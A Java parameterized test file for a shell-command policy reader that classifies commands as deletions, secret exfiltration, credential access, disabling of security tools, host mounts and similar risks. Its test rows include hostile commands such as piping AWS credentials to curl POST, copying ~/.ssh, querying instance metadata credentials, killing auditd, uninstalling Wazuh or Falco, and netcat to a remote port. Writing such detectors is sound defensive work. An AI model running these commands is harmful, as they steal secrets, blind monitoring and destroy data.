package dev.lighthouse.policy;

import static dev.lighthouse.policy.CommandActs.acts;
import static dev.lighthouse.policy.CommandActs.ops;
import static dev.lighthouse.policy.CommandActs.signals;
import static org.assertj.core.api.Assertions.assertThat;

import dev.lighthouse.policy.facts.Signal;
import dev.lighthouse.policy.verdict.Verdict;
import java.util.stream.Collectors;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The edges of what the command reader reads that mutation testing found unpinned (docs/policy.md, "Mutation
 * testing"): an option at the end of the line, a second branch of an expression, a variable whose name ends in a
 * plural, a copy's landing. Each row pins one fact a deny rule or "recognised as safe" reads, beside the ordinary
 * call of the same shape.
 */
class CommandFactsEdgesTest {
    private static String hosts(String command) {
        return acts(command).stream()
                .flatMap(a -> a.hosts().stream())
                .distinct()
                .collect(Collectors.joining(","));
    }

    /**
     * A branch of {@code -o} without a name test leaves everything below the start to the deletion, whichever branch
     * comes first; so does a negated group. {@code -delete} deletes what the branch it is written in names, the
     * top-level {@code -o} splitting branches and a group counting as one. A test or an action at the end of the line (no value) is read as absent.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        find ~ -type f -o -name x -delete                 => DELETE /home/dev -r
        find ~ -name x -o -type f -delete                 => DELETE /home/dev -r
        find ~ ! '(' -name a -o -name b ')' -delete       => DELETE /home/dev -r
        find ~ '(' -name a -o -name b ')' -delete         => DELETE /home/dev/a; DELETE /home/dev/b
        find ~ -name a -o -name b -delete                 => DELETE /home/dev/b
        find ~ -name a -delete -o -name b -delete         => DELETE /home/dev/a; DELETE /home/dev/b
        find . -name c -prune -exec rm -rf {} + -o -name '*.pyc' -delete => DELETE /home/dev/project/*.pyc
        find . -name                                      => READ /home/dev/project -r
        find ~ -name id_rsa -exec                         => READ /home/dev -r
        """)
    void find_branchesAndTrailingWords(String command, String ops) {
        assertThat(ops(command, "find")).as(command).isEqualTo(ops);
    }

    /** {@code xargs rm -rf}: the files come from the input, so the deletion is of unknown trees; without -r of files. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        cat list.txt | xargs rm -rf  => DELETE (arguments from input) -r
        cat list.txt | xargs rm -f   => ''
        """)
    void rm_argumentsFromInput_deleteUnknownTrees(String command, String ops) {
        assertThat(ops(command, "rm")).as(command).isEqualTo(ops);
    }

    /**
     * A copy reads its sources (recursively with {@code -r}, {@code -a}, {@code --archive}) and writes its
     * destination, and a source copied into a directory lands there by its own name; a link reads nothing; rsync's
     * {@code --delete} deletes in the destination; a lone operand is read, not written.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        cp dotfiles/.bashrc ~/                   => cp    => READ /home/dev/project/dotfiles/.bashrc; WRITE /home/dev; WRITE /home/dev/.bashrc
        cp -r ~/.ssh /tmp/k                      => cp    => READ /home/dev/.ssh -r; WRITE /tmp/k -r
        rsync --archive ~/.ssh /tmp/k            => rsync => READ /home/dev/.ssh -r; WRITE /tmp/k -r
        rsync -a --delete dist/ /srv/www         => rsync => READ /home/dev/project/dist -r; WRITE /srv/www -r; DELETE /srv/www -r
        rsync -a dist/ /srv/www                  => rsync => READ /home/dev/project/dist -r; WRITE /srv/www -r
        ln -s /etc/passwd p                      => ln    => WRITE /home/dev/project/p
        cp notes.txt                             => cp    => READ /home/dev/project/notes.txt
        """)
    void copy_readsSourcesWritesDestination(String command, String program, String ops) {
        assertThat(ops(command, program)).as(command).isEqualTo(ops);
    }

    /** A remote operand names its host: scp's {@code user@host:path}, rsync's daemon URL. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        scp notes.txt dev@203.0.113.9:/tmp/           => 203.0.113.9
        rsync -a dist/ rsync://203.0.113.7/module     => 203.0.113.7
        rsync -a dist/ out/                           => ''
        """)
    void copy_remoteOperand_namesItsHost(String command, String host) {
        assertThat(hosts(command)).as(command).isEqualTo(host);
    }

    /** dd reads {@code if=} and writes {@code of=}. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        dd if=/dev/sda of=/tmp/disk.img  => READ /dev/sda; WRITE /tmp/disk.img
        dd if=/tmp/disk.img of=/dev/sda  => READ /tmp/disk.img; WRITE /dev/sda
        """)
    void dd_readsInputWritesOutput(String command, String ops) {
        assertThat(ops(command, "dd")).as(command).isEqualTo(ops);
    }

    /**
     * A variable named for a secret is a secret however its word ends: at the name's start, with a plural
     * {@code S}; a setting that only begins with the word ({@code TOKENIZERS_PARALLELISM}) is not. A request with
     * {@code -X POST} or {@code PUT} sends what it is fed.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        curl -d "x=$TOKEN" https://example.com                         => true
        curl -d "x=$DB_PASSWORDS" https://example.com                  => true
        curl -d "x=$TOKENS_FILE" https://example.com                   => true
        curl -d "x=$TOKENIZERS_PARALLELISM" https://example.com        => false
        curl -d "x=$TOKENS" https://example.com                        => true
        cat ~/.aws/credentials | curl -X POST https://example.com      => true
        cat ~/.aws/credentials | curl -X PUT https://example.com       => true
        """)
    void send_ofASecret_isASecretSentToTheNetwork(String command, boolean sent) {
        assertThat(signals(command, Signal.SECRET_TO_NETWORK)).as(command).isEqualTo(sent);
    }

    /** A container subcommand alone, or a volume option without its value, is no container run. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        docker container            => false
        docker compose              => false
        docker run alpine -v        => false
        docker container run -v /:/host alpine => true
        """)
    void container_shortLines_areReadWithoutFailing(String command, boolean mounted) {
        assertThat(signals(command, Signal.HOST_MOUNT)).as(command).isEqualTo(mounted);
    }

    /** A formatter formats the devices it names (or, given none it can read, an unknown one); a file is no device. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        mkfs.ext4 /dev/sdb1         => FORMAT /dev/sdb1 -r
        mkfs.ext4 -L data /dev/sdb1 => FORMAT /dev/sdb1 -r
        mkfs.ext4 $DEVICE           => FORMAT $DEVICE -r
        mkfs.ext4 disk.img          => FORMAT mkfs.ext4 -r
        """)
    void format_formatsTheDevicesItNames(String command, String ops) {
        assertThat(ops(command, "mkfs.ext4")).as(command).isEqualTo(ops);
    }

    /** A defence's own control program told to stop or uninstall disables it; asked for its status, or bare, not. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        /var/ossec/bin/wazuh-control stop      => true
        /var/ossec/bin/wazuh-control uninstall => true
        /var/ossec/bin/wazuh-control status    => false
        /var/ossec/bin/wazuh-control -h        => false
        /var/ossec/bin/wazuh-control           => false
        falcond uninstall                      => true
        falcond status                         => false
        /usr/local/bin/falco-uninstall.sh      => true
        falco-uninstall                        => true
        /usr/local/bin/app-uninstall.sh        => false
        ./run.sh /srv/app-logs stop            => false
        kill -9 $(pidof auditd)                => true
        kill -9 $(pgrep -x auditd)             => true
        kill -9 $(pidof node)                  => false
        svcadm disable svc:/system/auditd:default  => true
        svcadm disable svc:/network/http:apache24  => false
        mytool stop auditd.service             => true
        mytool stop nginx.service              => false
        aws logs delete-log-group --log-group-name x => true
        """)
    void defenceControl_toldToStop_disablesIt(String command, boolean disables) {
        assertThat(signals(command, Signal.SECURITY_DISABLE)).as(command).isEqualTo(disables);
    }

    /**
     * A script run from an init system's directory is {@code service NAME ACTION}: stopping a defence disables it
     * (Slackware's {@code rc.} prefix dropped), another action controls the service, a status query does nothing; a
     * script elsewhere is no service.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        /etc/init.d/auditd stop          => SECURITY_DISABLE => true
        /etc/rc.d/rc.firewall stop       => SECURITY_DISABLE => true
        /usr/local/etc/rc.d/pf disable   => SECURITY_DISABLE => true
        /etc/init.d/nginx stop           => SECURITY_DISABLE => false
        /etc/init.d/nginx -q stop        => SERVICE_CONTROL  => true
        /etc/init.d/nginx status         => SERVICE_CONTROL  => false
        /etc/init.d/nginx -q status      => SERVICE_CONTROL  => false
        /etc/init.d/nginx                => SERVICE_CONTROL  => false
        /opt/app/init.d/nginx stop       => SERVICE_CONTROL  => false
        """)
    void initScript_isAService(String command, Signal signal, boolean shown) {
        assertThat(signals(command, signal)).as(command).isEqualTo(shown);
    }

    /** A metadata request for the instance's credentials, written with or without a scheme; other metadata not. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        curl 169.254.169.254/latest/meta-data/iam/security-credentials/          => true
        curl http://169.254.169.254/latest/user-data                             => true
        curl 169.254.169.254/latest/meta-data/instance-id                        => false
        """)
    void metadata_credentials_areCredentialAccess(String command, boolean access) {
        assertThat(signals(command, Signal.CREDENTIAL_ACCESS)).as(command).isEqualTo(access);
    }

    /**
     * sed reads its files, or writes them in place ({@code -i}, {@code -Ei}, {@code --in-place}); the script is the
     * first operand unless {@code -e} gives it; what the script writes ({@code w}) is a write.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        sed 's/a/b/' notes.txt                  => READ /home/dev/project/notes.txt
        sed -e 's/a/b/' notes.txt               => READ /home/dev/project/notes.txt
        sed -n -e 's/a/b/' ~/.ssh/id_rsa        => READ /home/dev/.ssh/id_rsa
        sed -f edit.sed notes.txt               => READ /home/dev/project/edit.sed; READ /home/dev/project/notes.txt
        sed -i 's/a/b/' notes.txt               => WRITE /home/dev/project/notes.txt
        sed -Ei 's/a/b/' ~/.bashrc              => WRITE /home/dev/.bashrc
        sed --in-place -e 's/a/b/' ~/.bashrc    => WRITE /home/dev/.bashrc
        sed -n 's/a/b/w /etc/cron.d/x' notes.txt => WRITE /etc/cron.d/x; READ /home/dev/project/notes.txt
        """)
    void sed_readsOrEditsItsFiles(String command, String ops) {
        assertThat(ops(command, "sed")).as(command).isEqualTo(ops);
    }

    /**
     * The script given with {@code -e} names no file: {@code sed -e '/^$/d' notes.txt} read {@code /^$/d} as a file
     * (an unknown one, for its {@code $}) and was not recognised as safe, unlike {@code sed '/^$/d' notes.txt}.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        sed -e '/^$/d' notes.txt              => ALLOW  => true
        sed -n -e '/ssh/p' notes.txt          => ALLOW  => true
        sed --expression '/^$/d' notes.txt    => ALLOW  => true
        sed '/^$/d' notes.txt                 => ALLOW  => true
        sed -n -e 1p ~/.ssh/id_rsa            => REVIEW => false
        """)
    void sed_scriptGivenWithE_isNoFile(String command, Verdict verdict, boolean recognised) {
        Decision d = CommandActs.decide(command);
        assertThat(d.verdict()).as(command).isEqualTo(verdict);
        assertThat(d.recognised()).as("recognised: %s", command).isEqualTo(recognised);
    }

    /** sed's {@code e} command runs the shell; a script from a file is code nobody read. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        sed '1e id' notes.txt        => DYNAMIC_CODE => true
        sed -i '1e id' notes.txt     => DYNAMIC_CODE => true
        sed 's/a/b/' notes.txt       => DYNAMIC_CODE => false
        sed -f edit.sed notes.txt    => RUNS_CODE    => true
        """)
    void sed_scriptThatRuns_isCode(String command, Signal signal, boolean shown) {
        assertThat(signals(command, signal)).as(command).isEqualTo(shown);
    }

    /** A docker bind mount of the home written with {@code ~} (no shell expands it inside the option). */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        docker run --mount type=bind,source=~/.ssh,target=/root/.ssh alpine => true
        docker run -v .:/src alpine                                         => false
        """)
    void container_tildeMount_isAHostMount(String command, boolean mounted) {
        assertThat(signals(command, Signal.HOST_MOUNT)).as(command).isEqualTo(mounted);
    }

    /**
     * A source copied or moved into a directory (written with a trailing {@code /}, or the home) lands there by its own
     * name, a trailing {@code /} of the source dropped; {@code .}, {@code ..}, a variable or a plain destination file
     * land nowhere else.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        cp notes.txt ~                   => cp => READ /home/dev/project/notes.txt; WRITE /home/dev; WRITE /home/dev/notes.txt
        cp -r dist/ ~/                   => cp => READ /home/dev/project/dist -r; WRITE /home/dev -r; WRITE /home/dev/dist
        cp libx.so /                     => cp => READ /home/dev/project/libx.so; WRITE /; WRITE /libx.so
        cp a.conf b.conf /etc/app/       => cp => READ /home/dev/project/a.conf; READ /home/dev/project/b.conf; WRITE /etc/app; WRITE /etc/app/a.conf; WRITE /etc/app/b.conf
        cp a.conf /etc/app.conf          => cp => READ /home/dev/project/a.conf; WRITE /etc/app.conf
        cp -r . ~/                       => cp => READ /home/dev/project -r; WRITE /home/dev -r
        cp -r .. ~/                      => cp => READ /home/dev -r; WRITE /home/dev -r
        cp $SRC ~/                       => cp => READ $SRC; WRITE /home/dev
        mv build/app.conf ~/.config/     => mv => DELETE /home/dev/project/build/app.conf; WRITE /home/dev/.config; WRITE /home/dev/.config/app.conf
        """)
    void copy_intoADirectory_landsByName(String command, String program, String ops) {
        assertThat(ops(command, program)).as(command).isEqualTo(ops);
    }

    /** tar's {@code -C DIR} places the relative names after it in DIR; an absolute name stays where it is. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        tar -cf - -C ~ .ssh                        => READ /home/dev/.ssh -r
        tar -cf - -C /tmp /etc/shadow              => READ /etc/shadow -r
        """)
    void tar_readsNamesFromItsDirectory(String command, String ops) {
        assertThat(ops(command, "tar")).as(command).endsWith(ops);
    }

    /**
     * Options before a service's name are no name; a ps that lists only the terminal's processes is no kill-all; pkill
     * of a user's processes is a kill-all unless a pattern narrows it, written before or after {@code -u} ({@code pkill
     * node -u dev} was denied as a kill-all) or {@code -U}.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        service -q nginx status         => SERVICE_CONTROL => false
        service -q nginx restart        => SERVICE_CONTROL => true
        kill -9 $(ps -o pid=)           => KILL_ALL        => false
        kill -9 $(ps -e -o pid=)        => KILL_ALL        => true
        pkill node -u dev               => KILL_ALL        => false
        pkill -u dev node               => KILL_ALL        => false
        pkill -U dev                    => KILL_ALL        => true
        pkill -U dev node               => KILL_ALL        => false
        pkill -u dev                    => KILL_ALL        => true
        """)
    void processes_andServices(String command, Signal signal, boolean shown) {
        assertThat(signals(command, signal)).as(command).isEqualTo(shown);
    }

    /**
     * Octal modes ending in 7 (others may write), however few their digits, and symbolic ones that add or set write
     * for others or all, whoever else they name: {@code chmod go+w} and {@code chmod 77} of a project file were
     * recognised as safe, where {@code chmod o+w} was reviewed.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        chmod 707 data      => true
        chmod 0707 data     => true
        chmod a+w data      => true
        chmod a+rw data     => true
        chmod o+rw data     => true
        chmod +w data       => false
        chmod u+w data      => false
        chmod g+w data      => false
        chmod 705 data      => false
        chmod 77 data       => true
        chmod 7 data        => true
        chmod go+w data     => true
        chmod ugo+w data    => true
        chmod u+x,o+w data  => true
        chmod a=rwx data    => true
        chmod o-w data      => false
        chmod go-w data     => false
        """)
    void modes_givingOthersWrite_areWorldWritable(String command, boolean writable) {
        assertThat(signals(command, Signal.WORLD_WRITABLE)).as(command).isEqualTo(writable);
    }

    /** A CLI's subcommand that stops, disables, deactivates or suspends a log or an audit; of other things not. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        aws securityhub disable-security-hub                                    => true
        aws configservice stop-configuration-recorder --configuration-recorder-name default => true
        mytool audit deactivate                                                 => true
        mytool logging suspend                                                  => true
        mytool jobs suspend                                                     => false
        mytool worker deactivate                                                => false
        """)
    void cli_turningOffADefence_disablesSecurity(String command, boolean disables) {
        assertThat(signals(command, Signal.SECURITY_DISABLE)).as(command).isEqualTo(disables);
    }

    /**
     * A mode given to a program that creates files, however its option is written ({@code -m MODE}, {@code -mMODE},
     * {@code --mode=MODE}); after {@code --} a word is a file, and {@code -m} without a value sets nothing.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        install --mode=4755 x /usr/local/bin/x  => PRIVILEGE_ESCALATION => true
        install -m4755 x /usr/local/bin/x       => PRIVILEGE_ESCALATION => true
        install -m 755 -- -m4755 /tmp/y         => PRIVILEGE_ESCALATION => false
        install x /tmp/y -m                     => PRIVILEGE_ESCALATION => false
        mkdir --mode=777 /tmp/x                 => WORLD_WRITABLE       => true
        mkdir -m777 /tmp/x                      => WORLD_WRITABLE       => true
        mkdir -m 755 /tmp/x                     => WORLD_WRITABLE       => false
        python3 -m http.server --bind=::        => LISTEN_ALL           => true
        python3 -m http.server --bind=127.0.0.1 => LISTEN_ALL           => false
        php -S [::]:8000                        => LISTEN_ALL           => true
        php -S 127.0.0.1:8000                   => LISTEN_ALL           => false
        php -S                                  => LISTEN_ALL           => false
        """)
    void options_writtenAnyWay_areRead(String command, Signal signal, boolean shown) {
        assertThat(signals(command, signal)).as(command).isEqualTo(shown);
    }

    /**
     * mv deletes its sources and writes its destination (a lone operand is only gone); after {@code --} a word that
     * starts with a dash is a file; chattr's {@code +i} is the attribute, not a file.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        mv a.txt b.txt               => mv     => DELETE /home/dev/project/a.txt; WRITE /home/dev/project/b.txt
        mv notes.txt                 => mv     => DELETE /home/dev/project/notes.txt
        rm -f -- -notes.txt          => rm     => DELETE /home/dev/project/-notes.txt
        chattr +i /etc/resolv.conf   => chattr => CHMOD /etc/resolv.conf
        """)
    void operands_ofMovesRemovalsAndAttributes(String command, String program, String ops) {
        assertThat(ops(command, program)).as(command).isEqualTo(ops);
    }

    /** netcat connects to the host it names; curl and wget take a URL without a scheme. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", textBlock = """
        nc 203.0.113.9 4444          => 203.0.113.9
        nc -w 3 203.0.113.9 4444     => 203.0.113.9
        curl pastebin.com/raw/x      => pastebin.com
        wget example.org/x.sh        => example.org
        """)
    void netcat_namesItsHost(String command, String host) {
        assertThat(hosts(command)).as(command).isEqualTo(host);
    }
}
